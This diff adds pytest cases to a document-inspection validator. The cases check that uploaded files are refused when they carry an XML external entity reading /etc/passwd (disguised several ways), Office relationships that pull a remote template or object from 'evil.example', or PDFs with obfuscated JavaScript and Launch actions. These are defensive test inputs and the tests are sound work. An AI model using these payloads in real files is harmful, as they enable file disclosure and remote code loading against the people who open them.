@@ -185,3 +185,45 @@ def test_no_damage_to_a_good_file_makes_the_inspection_fail(good: bytes, changes
         inspect_file(bytes(content), "file")
     except UnfitFileError:
         return
+
+
+DOCTYPE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        DOCTYPE.encode(),
+        b"<?xml version='1.0'?><!-- " + b"x" * 70_000 + b" -->" + DOCTYPE.encode(),
+        DOCTYPE.encode("utf-16"),
+        b"\n" * 5_000 + DOCTYPE.replace("!DOCTYPE", "!DOCTYPE ").encode(),
+    ],
+    ids=["plain", "behind a long comment", "in UTF-16", "behind empty lines"],
+)
+def test_a_doctype_is_found_wherever_it_hides(part: bytes) -> None:
+    with pytest.raises(UnfitFileError, match="refers to things outside it"):
+        inspect_file(office("docx", word__styles_x_xml=part), "letter.docx")
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
+def test_a_document_that_fetches_its_parts_from_elsewhere_is_refused(kind: str) -> None:
+    relation = (
+        f'<Relationships><Relationship Id="r1" TargetMode = "External" Target="https://evil.example/a.dotm"'
+        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
+    ).encode()
+    with pytest.raises(UnfitFileError, match="refers to things outside it"):
+        inspect_file(office("docx", word___rels__settings_x_xml_x_rels=relation), "letter.docx")
+
+
+def test_a_document_may_link_to_a_web_page() -> None:
+    relation = (
+        b'<Relationships><Relationship Id="r1" TargetMode="External" Target="https://example.org/"'
+        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
+    )
+    assert inspect_file(office("docx", word___rels__document_x_xml_x_rels=relation), "letter.docx") == WORD
+
+
+@pytest.mark.parametrize("name", [b"/J#61vaScript", b"/#4a#53", b"/L#61unch", b"/#45ncrypt 3 0 R"])
+def test_a_pdf_cannot_spell_its_scripts_differently(name: bytes) -> None:
+    with pytest.raises(UnfitFileError):
+        inspect_file(PDF.replace(b"obj<<", b"obj<<" + name + b" (app.alert(1))"), "plan.pdf")
